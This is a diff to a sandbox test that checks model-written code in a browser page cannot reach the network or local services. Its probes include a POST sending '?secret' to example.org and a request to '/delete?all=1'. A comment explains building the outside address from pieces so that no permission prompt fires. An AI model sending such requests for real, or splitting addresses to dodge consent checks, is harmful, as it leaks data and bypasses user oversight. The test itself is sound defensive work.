@@ -1,5 +1,5 @@
-"""The walls around what a model wrote: no way to the page, its storage, its server or any network,
-and no more to the page than it asked for.
+"""The walls around what a model wrote: no way to the page, its storage, its server or any network
+but by the page (test_network), and no more to the page than it asked for.
 """
 
 import socket
@@ -102,7 +102,7 @@ probes = {
     "the page": lambda: js.fetch(PAGE + "/index.html"),
     "no-cors": lambda: js.fetch(PAGE + "/api/status", no_cors),
     "a program here": lambda: js.fetch("http://" + HOST + "/delete?all=1", no_cors),
-    "https": lambda: js.fetch("https://example.org/?secret"),
+    "https by XMLHttpRequest": lambda: posted("POST", OUT + "?secret"),
     "localhost by https": lambda: js.fetch("https://" + HOST + "/"),
     "XMLHttpRequest": lambda: posted("POST", "http://" + HOST + "/"),
     "XMLHttpRequest to the page": lambda: posted("GET", PAGE + "/api/status"),
@@ -147,7 +147,9 @@ def test_no_probe_gets_out(python: PythonPage, listener: socket.socket) -> None:
         }"""
     )
     host = f"127.0.0.1:{listener.getsockname()[1]}"
-    begin = f"PAGE = {python.server.url!r}\nHOST = {host!r}\n"
+    # Not as an address that its source names: the person would be asked for it.
+    out = "OUT = 'https:' + '//example.org/'\n"
+    begin = f"PAGE = {python.server.url!r}\nHOST = {host!r}\n{out}"
     (told,) = python.run(begin + PROBES)
     assert told == "{}"
     assert not has_been_asked(listener)
